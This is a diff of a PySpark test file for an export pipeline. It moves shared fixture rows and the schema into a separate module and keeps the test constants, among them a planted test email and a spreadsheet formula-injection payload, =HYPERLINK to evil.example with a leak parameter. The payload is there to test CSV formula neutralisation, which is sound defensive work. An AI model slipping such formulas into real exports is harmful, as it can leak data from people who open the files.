@@ -11,6 +11,7 @@ from pathlib import Path
 import pytest
 from pyspark.sql import functions as F
 
+from tests.gold_fixtures import USAGE_SCHEMA, usage_rows
 from expectations.contracts import USAGE_BY_TIME_OF_DAY
 from expectations.gate import GateFailure, validate_table
 from jobs.csv_safe import neutralise_formula, with_formulas_neutralised
@@ -25,8 +26,6 @@ from jobs.verify import sha256_of, verify_release
 
 DATASET = "usage_by_time_of_day"
 PLANTED_EMAIL = "planted.export.person@leak-test.example"
-USAGE_SCHEMA = ", ".join(f"{name} {type_}" for name, type_ in USAGE_BY_TIME_OF_DAY.columns.items())
-WEEK = dt.date(2026, 11, 2)
 BETWEEN = "expect_column_values_to_be_between"
 IN_SET = "expect_column_values_to_be_in_set"
 NO_PII = "expect_column_values_to_contain_no_pii"
@@ -34,18 +33,7 @@ NOT_NULL = "expect_column_values_to_not_be_null"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'
 
 
-def usage_rows(**changes) -> list[tuple]:
-    """Two gold rows that pass the gate at k = 10, the first one changed as asked."""
-    rows = [
-        dict(report_week=WEEK, local_dow=1, local_hour=9, region="us", product="meeting",
-             access_type="web", conferences=3, participant_legs=5, participant_minutes=120,
-             distinct_accounts=12),
-        dict(report_week=WEEK, local_dow=7, local_hour=23, region="eu", product="audio",
-             access_type="dial_in", conferences=1, participant_legs=1, participant_minutes=0,
-             distinct_accounts=11),
-    ]  # fmt: skip
-    rows[0].update(changes)
-    return [tuple(row[name] for name in USAGE_BY_TIME_OF_DAY.columns) for row in rows]
+
 
 
 def make_lake(spark, root: Path, rows: list[tuple]) -> Lake:
